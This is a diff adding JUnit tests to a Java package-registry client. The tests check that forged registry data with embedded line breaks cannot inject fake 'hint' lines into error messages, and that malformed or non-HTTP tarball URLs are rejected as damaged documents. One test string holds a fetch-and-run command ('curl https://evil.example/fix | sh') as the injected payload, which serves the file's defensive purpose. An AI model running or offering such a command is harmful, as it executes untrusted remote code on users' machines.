@@ -1,6 +1,7 @@
 package io.prompd.client.install.registry;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
@@ -35,6 +36,7 @@ import java.nio.file.StandardCopyOption;
 import java.time.Clock;
 import java.util.List;
 import java.util.Optional;
+import java.util.function.Consumer;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -253,6 +255,66 @@ class HttpPackageRegistryTest {
         assertEquals(ExitCode.NETWORK, misfiled.exitCode());
         assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/index.json"
                 + " (versions/1.0.0 says it is version 1.0.1)", misfiled.getMessage());
+    }
+
+    /** The index.json of @acme/util as {@code edit} leaves it. */
+    private Path editedIndex(Consumer<ObjectNode> edit) throws IOException {
+        Path root = registry().root();
+        Path index = root.resolve("packages/@acme/util/index.json");
+        ObjectNode packument = (ObjectNode) Json.reader().readTree(Files.readAllBytes(index));
+        edit.accept(packument);
+        Files.write(index, Json.write(packument));
+        return root;
+    }
+
+    private static ObjectNode versionOne(ObjectNode packument) {
+        return (ObjectNode) packument.get("versions").get("1.0.0");
+    }
+
+    /** Quoted raw, a registry's line break started a line of its own, such as a hint telling the user to run its script. */
+    @Test
+    void aDamagedDocumentsTextIsQuotedWithItsLineBreaksSpeltOutSoNoneStartsAHint() throws IOException {
+        String forged = "\nhint: run 'curl https://evil.example/fix | sh'\u2028hint: or this\n";
+        Path tagged = editedIndex(packument -> ((ObjectNode) packument.get("distTags")).put("x" + forged, "7.7.7"));
+        PrompdException tag = assertThrows(PrompdException.class, () -> registryAt(tagged).find(UTIL));
+        Path depending = editedIndex(packument -> versionOne(packument).putObject("dependencies").put("@x/y" + forged,
+                "^1.0.0"));
+        PrompdException dependency = assertThrows(PrompdException.class, () -> registryAt(depending).find(UTIL));
+
+        String spelt = "^Jhint: run 'curl https://evil.example/fix | sh'<U+2028>hint: or this^J";
+        assertEquals(ExitCode.NETWORK, tag.exitCode());
+        assertTrue(tag.getMessage().endsWith(": dist-tag x" + spelt + " of @acme/util points at 7.7.7, which is not"
+                + " published)"), tag.getMessage());
+        assertEquals(ExitCode.NETWORK, dependency.exitCode());
+        assertTrue(dependency.getMessage().contains("/versions/1.0.0/dependencies: invalid package name '@x/y" + spelt
+                + "'"), dependency.getMessage());
+        for (PrompdException damaged : List.of(tag, dependency)) {
+            assertFalse(damaged.getMessage().contains("\n") || damaged.getMessage().contains("\u2028"),
+                    damaged.getMessage());
+            assertEquals(DAMAGED_HINT, damaged.hint());
+        }
+    }
+
+    /**
+     * Read at the download, a tarball URL that is no URL failed as an internal error to report as a bug, and one of a
+     * scheme prompd does not read over as the user's registry URL, exit 2, or went into prompd.lock.
+     */
+    @Test
+    void aTarballUrlThatIsNoUrlOrOfASchemePrompdCannotReadIsADamagedDocumentNamingIt() throws IOException {
+        String url = "packages/@acme/util/index.json (at line ";
+        for (String tarball : List.of("-/util 1.0.0.tgz", "-/util-1.0.0.tgz?\nhint: x", "-/util%zz.tgz",
+                "ftp://mirror.example/util-1.0.0.tgz", "data:application/gzip;base64,H4sI", "jar:file:/x.jar!/u.tgz")) {
+            Path root = editedIndex(packument -> ((ObjectNode) versionOne(packument).get("dist")).put("tarball", tarball));
+
+            PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
+
+            assertEquals(ExitCode.NETWORK, damaged.exitCode(), tarball);
+            assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + root.toUri() + url),
+                    damaged.getMessage());
+            assertTrue(damaged.getMessage().contains(": /versions/1.0.0/dist: the tarball URL"), damaged.getMessage());
+            assertFalse(damaged.getMessage().contains("\n"), damaged.getMessage());
+            assertEquals(DAMAGED_HINT, damaged.hint());
+        }
     }
 
     @Test
